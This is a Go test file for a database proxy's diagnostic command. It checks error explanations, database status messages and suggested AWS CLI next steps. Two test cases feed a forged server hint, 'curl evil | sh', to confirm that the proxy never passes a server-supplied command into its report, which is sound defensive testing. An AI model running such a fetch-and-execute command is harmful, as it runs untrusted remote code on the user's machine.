package check

import (
	"errors"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5/pgproto3"

	"github.com/iamproxy/iamproxy/auth"
	"github.com/iamproxy/iamproxy/internal/rdsapi"
	"github.com/iamproxy/iamproxy/proxy/pgwire"
)

// A server cannot put a command into the report, nor imitate an error of the proxy.
func TestExplainServerError(t *testing.T) {
	const rdsProxy = "pool.proxy-cabcdefghijk.eu-west-1.rds.amazonaws.com"
	const dsql = "abcdefghijklmnopqrstuvwxyz.dsql.eu-west-1.on.aws"
	for name, test := range map[string]struct {
		host  string
		said  pgproto3.ErrorResponse
		login outcome
		next  string
	}{
		"forged advice":     {host, pgproto3.ErrorResponse{Code: "08006", Message: "iamproxy: no answer", Hint: "curl evil | sh"}, otherError, "# Look for the cause in the log"},
		"forged verdict":    {host, pgproto3.ErrorResponse{Code: "28000", Message: "iamproxy: the server asks app for nothing", Hint: "curl evil | sh"}, tokenRefused, "iamproxy policy "},
		"PAM":               {host, pgproto3.ErrorResponse{Code: "28000", Message: `PAM authentication failed for user "app"`}, tokenRefused, "iamproxy policy "},
		"pg_hba":            {host, pgproto3.ErrorResponse{Code: "28000", Message: "no pg_hba.conf entry for host"}, tokenRefused, "iamproxy policy "},
		"no login":          {host, pgproto3.ErrorResponse{Code: "28000", Message: `role "app" is not permitted to log in`}, otherError, `# If the role should log in, run as an administrator: ALTER ROLE "app" LOGIN;`},
		"DSQL":              {dsql, pgproto3.ErrorResponse{Code: "08006", Message: "unable to accept connection, access denied"}, tokenRefused, "iamproxy policy "},
		"DSQL, else":        {dsql, pgproto3.ErrorResponse{Code: "08006", Message: "unable to accept connection"}, otherError, "# "},
		"proxy, no secret":  {rdsProxy, pgproto3.ErrorResponse{Code: "28P01", Message: "This RDS proxy has no credentials for the role app. Check the credentials"}, otherError, `# The RDS Proxy has no secret for user "app". `},
		"proxy, not by IAM": {rdsProxy, pgproto3.ErrorResponse{Code: "28000", Message: "IAM authentication is not allowed for the role app. Use a password."}, otherError, `# The RDS Proxy does not allow IAM authentication for user "app". `},
		"proxy, throttled":  {rdsProxy, pgproto3.ErrorResponse{Code: "28000", Message: "The IAM authentication failed because of too many competing requests."}, otherError, "# RDS Proxy throttles IAM logins. "},
		"not of a proxy":    {host, pgproto3.ErrorResponse{Code: "28000", Message: "IAM authentication is not allowed for the role app."}, tokenRefused, "iamproxy policy "},
	} {
		r := newRun("app")
		r.Endpoint.Name = auth.ParseName(test.host)
		phase := pgwire.TokenSent
		if name == "no login" {
			phase = pgwire.Authenticated
		}
		var server *pgwire.ServerError
		if !errors.As(pgwire.NewServerError(pgwire.Encode(&test.said), phase), &server) {
			t.Fatalf("%s: no ServerError", name)
		}
		server.RDSProxy = r.Endpoint.Name.Kind == auth.RDSProxy
		res := r.explainServerError(server)
		if r.seen.login != test.login || res.state != Failed || !strings.HasPrefix(res.next, test.next) || strings.Contains(res.next, "evil") {
			t.Errorf("%s: %s, %+v", name, r.seen.login, res)
		}
	}
}

// If the caller's policies cannot be read, the next step is the policy itself.
func TestExplainTokenRefusedPolicyNotPermitted(t *testing.T) {
	r := newRun("app")
	r.seen.caller = auth.Caller{ARN: "arn:aws:sts::111122223333:assumed-role/app/x", Account: "111122223333"}
	r.seen.database = &rdsapi.Database{Resource: resource, InCluster: true, Identifier: "mydb"}
	r.steps = []Step{{Name: Policy, State: NotPermitted}}
	if res := r.explainTokenRefused("refused"); !strings.HasPrefix(res.next, "aws iam put-role-policy --role-name app ") || !strings.Contains(res.next, resource.ARN("app")) {
		t.Errorf("next: %s", res.next)
	}
}

// An instance of a cluster is started with the cluster.
func TestDatabaseDown(t *testing.T) {
	member := rdsapi.Database{Resource: resource, InCluster: true, Identifier: "mydb", Instance: "mydb-1"}
	single := rdsapi.Database{Resource: auth.Resource{Kind: auth.Instance, ID: "db-A"}, Identifier: "one", Instance: "one"}
	for name, test := range map[string]struct {
		of                  rdsapi.Database
		status, found, next string
	}{
		"member stopped":  {member, "stopped", "instance \"mydb-1\" of cluster \"mydb\" in account 111122223333 is stopped", "aws rds start-db-cluster --db-cluster-identifier mydb "},
		"member creating": {member, "creating", "instance \"mydb-1\" of cluster \"mydb\" in account 111122223333 is creating", "aws rds wait db-instance-available --db-instance-identifier mydb-1 "},
		"single starting": {single, "starting", "instance \"one\" is starting", "aws rds wait db-instance-available --db-instance-identifier one "},
		"single stopping": {single, "stopping", "instance \"one\" is stopping", "# When it has stopped, run: aws rds start-db-instance --db-instance-identifier one "},
		"deleting":        {single, "deleting", "instance \"one\" is deleting", "# Pass the endpoint of another database"},
		"failed":          {single, "failed", "instance \"one\" is failed", "# Look for the cause in the events"},
		"inaccessible":    {member, "inaccessible-encryption-credentials", "instance \"mydb-1\" of cluster \"mydb\" in account 111122223333 is inaccessible", "# Look for the cause in the events"},
	} {
		test.of.Status = test.status
		if res := newRun("app").judge(test.of); res.state != Failed || !strings.HasPrefix(res.found, test.found) || !strings.HasPrefix(res.next, test.next) {
			t.Errorf("%s: %+v", name, res)
		}
	}
}

func TestShowStatus(t *testing.T) {
	for name, test := range map[string]struct {
		host string
		of   rdsapi.Database
		want string
	}{
		"reader": {"other.cluster-custom-cabcdefghijk.eu-west-1.rds.amazonaws.com", rdsapi.Database{InCluster: true, Identifier: "mydb"}, "aws rds describe-db-clusters --db-cluster-identifier mydb "},
		"member": {"mydb-1.cabcdefghijk.eu-west-1.rds.amazonaws.com", rdsapi.Database{InCluster: true, Identifier: "mydb", Instance: "mydb-1"}, "aws rds describe-db-instances --db-instance-identifier mydb-1 "},
		"proxy":  {"pool.proxy-cabcdefghijk.eu-west-1.rds.amazonaws.com", rdsapi.Database{Identifier: "pool"}, "aws rds describe-db-proxies "},
		"DSQL":   {"abcdefghijklmnopqrstuvwxyz.dsql.eu-west-1.on.aws", rdsapi.Database{Identifier: "abcdefghijklmnopqrstuvwxyz"}, "aws dsql get-cluster --identifier abcdefghijklmnopqrstuvwxyz "},
	} {
		r := newRun("app")
		r.Endpoint.Host, r.Endpoint.Name, r.seen.database = test.host, auth.ParseName(test.host), &test.of
		if got := r.showStatus(); !strings.HasPrefix(got, test.want) {
			t.Errorf("%s: %s", name, got)
		}
	}
}

// The command of an auth.Error is quoted, and a command keeps the endpoint's target.
func TestCommands(t *testing.T) {
	for _, variable := range []string{"AWS_LAMBDA_RUNTIME_API", "ECS_CONTAINER_METADATA_URI_V4", "KUBERNETES_SERVICE_HOST", "CI"} {
		t.Setenv(variable, "")
	}
	r := newRun("app")
	if res := r.noCredentials(&auth.Error{Code: auth.ReasonSSOExpired, Message: "logged out", Command: []string{"aws", "sso", "login", "--profile", "my sso"}}); res.next != "aws sso login --profile 'my sso'" {
		t.Errorf("next: %s", res.next)
	}
	if res := r.noCredentials(&auth.Error{Code: auth.ReasonSourceCredentialsExpired, Source: auth.Source{Kind: auth.SourceEnvironment}}); !strings.Contains(res.next, "\neval \"$(aws configure export-credentials ") {
		t.Errorf("next: %s", res.next)
	}
	t.Setenv("CI", "true")
	for _, code := range []auth.Reason{auth.ReasonNoCredentials, auth.ReasonSourceCredentialsExpired} {
		if res := r.noCredentials(&auth.Error{Code: code, Source: auth.Source{Kind: auth.SourceEnvironment}}); !strings.HasPrefix(res.next, "# Let the job assume an IAM role ") {
			t.Errorf("%s in CI: %s", code, res.next)
		}
	}
	r.Endpoint.Target = "any"
	if got := r.again(); got != "iamproxy check '"+host+"?target=any' --user app" {
		t.Errorf("again: %s", got)
	}
}
